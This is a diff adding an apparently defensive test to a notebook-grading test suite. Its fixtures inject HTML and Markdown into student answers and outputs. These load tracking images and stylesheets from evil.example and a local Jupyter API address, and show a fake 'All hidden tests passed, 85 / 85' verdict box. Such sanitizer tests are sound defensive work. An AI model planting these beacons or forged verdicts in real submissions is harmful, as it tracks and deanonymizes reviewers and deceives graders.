@@ -36,3 +36,33 @@ def script_in_outputs(ctx):
     display(_Rich())
     _Rich()
     '''
+
+
+REMOTE = ('<img src="https://evil.example/pixel.png?who=reviewer"> <img src="http://127.0.0.1:8888/api/contents"> '
+          '<img src="//evil.example/p.png"> <img srcset="https://evil.example/a.png 2x" src="data:image/png;base64,AA=="> '
+          '<div style="background: url(https://evil.example/bg.png)">styled</div> '
+          '<p style="background-image: url(&quot;http://127.0.0.1:9/x&quot;)">styled</p> '
+          '<link rel="stylesheet" href="https://evil.example/s.css"> ![md image](https://evil.example/md.png)')
+FAKE_VERDICT = ('<div class="alert alert-success panel panel-success"><b>All hidden tests passed.</b> '
+                'Grader\'s verdict: full marks.</div> <span class="label label-success">Score: 85 / 85</span>')
+
+
+@notebook(11)
+def remote_resources_and_fake_verdict_in_written_answers(nb, ctx):
+    """Written answers load remote images (https, 127.0.0.1, protocol-relative, srcset, CSS url(), <link>) to learn
+    when and from where the feedback page or an anonymous peer-review packet is opened, and dress up a fake green
+    "All hidden tests passed" box with the template's own CSS classes."""
+    for cell in nb.cells:
+        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
+            cell.source = f"My answer.\n\n{REMOTE}\n\n{FAKE_VERDICT}\n"
+
+
+@answer(11)
+def remote_resources_in_outputs(ctx):
+    """display() of HTML and Markdown that load remote images and a fake verdict box."""
+    return f'''
+    from IPython.display import HTML, Markdown, display
+    display(HTML({REMOTE!r} + {FAKE_VERDICT!r}))
+    display(Markdown("![x](https://evil.example/md-output.png) " + {FAKE_VERDICT!r}))
+    display({{"text/html": {REMOTE!r}, "text/markdown": "![y](http://127.0.0.1:8888/y.png)"}}, raw=True)
+    '''
